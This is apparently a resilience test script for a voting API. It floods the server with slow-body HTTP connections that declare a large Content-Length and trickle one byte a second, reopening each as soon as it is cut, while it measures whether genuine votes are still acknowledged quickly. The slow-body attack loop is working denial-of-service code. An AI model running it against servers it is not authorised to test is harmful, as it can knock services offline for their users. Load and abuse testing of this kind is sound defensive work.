#!/usr/bin/env python3
"""No upload can crowd out a vote: SLOW connections from the voters' own address each send a vote
request head with `Content-Length: 60000` and then one body byte a second; every connection the
server (or the proxy) closes is opened again at once, for the whole run. Meanwhile VOTERS real voters
vote, one every 0.3 s, from the same address. At least 95 % of them must be acknowledged (201),
with p99 under 2 s. Prints the voters' latencies, how often the attackers were cut off, and the
attack's reach (connections open when the first voter voted).

Usage: slow_bodies.py HOST PORT CODES_FILE BALLOT SLOW VOTERS
"""
import http.client, json, socket, sys, threading, time

host, port, codes_file, ballot, slow, voters = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
codes = [line.strip() for line in open(codes_file) if line.strip()][:voters]
assert len(codes) == voters, f"need {voters} codes, have {len(codes)}"
HEAD = (b"POST /api/v1/votes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 60000\r\n\r\n{")
DEADLINE = time.monotonic() + 120   # the attack stops by itself, whatever happens

def open_one():
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(HEAD)
        s.setblocking(False)
        return s
    except OSError:
        return None

sockets = [open_one() for _ in range(slow)]
stop = threading.Event()
stats = {"cut": 0, "reopened": 0, "failed_opens": sum(1 for s in sockets if s is None)}

def attack():
    while not stop.is_set() and time.monotonic() < DEADLINE:
        for i, s in enumerate(sockets):
            if stop.is_set():
                break
            alive = s is not None
            if alive:
                try:
                    s.recv(4096)
                    alive = False   # closed, or any answer (408, 413): this request is over, open another
                except BlockingIOError:
                    try:
                        s.send(b" ")
                    except BlockingIOError:
                        pass
                    except OSError:
                        alive = False
                except OSError:
                    alive = False
                if not alive:
                    stats["cut"] += 1
                    s.close()
            if not alive:
                sockets[i] = open_one()
                stats["reopened"] += 1
                if sockets[i] is None:
                    stats["failed_opens"] += 1
        time.sleep(1)

attacker = threading.Thread(target=attack, daemon=True)
attacker.start()
time.sleep(3)
holding = sum(1 for s in sockets if s is not None)

results, lock = [], threading.Lock()
def vote(code):
    started = time.monotonic()
    try:
        connection = http.client.HTTPConnection(host, port, timeout=15)
        connection.request("POST", "/api/v1/votes", json.dumps({"code": code, "ballot": ballot, "choice": "yes"}),
                           {"Content-Type": "application/json"})
        status = connection.getresponse().status
        connection.close()
    except Exception as e:
        status = f"error: {e}"
    with lock:
        results.append((status, (time.monotonic() - started) * 1000))

threads = [threading.Thread(target=vote, args=(code,)) for code in codes]
for t in threads:
    t.start()
    time.sleep(0.3)
for t in threads:
    t.join()
stop.set()
attacker.join(timeout=10)
for s in sockets:
    if s is not None:
        s.close()

latencies = sorted(ms for _, ms in results)
acknowledged = sum(1 for status, _ in results if status == 201)
def pct(p): return latencies[min(len(latencies) - 1, int(len(latencies) * p))]
print(f"ATTACK slow_bodies={slow} holding_when_voting_began={holding} cut_off={stats['cut']} reopened={stats['reopened']} failed_opens={stats['failed_opens']}")
print(f"VOTERS sent={len(results)} acknowledged={acknowledged} p50_ms={pct(0.5):.1f} p99_ms={pct(0.99):.1f} max_ms={latencies[-1]:.1f}")
failures = [r for r in results if r[0] != 201]
if failures: print("not acknowledged:", failures[:5])
ok = acknowledged * 100 >= voters * 95 and pct(0.99) < 2000
sys.exit(0 if ok else 1)
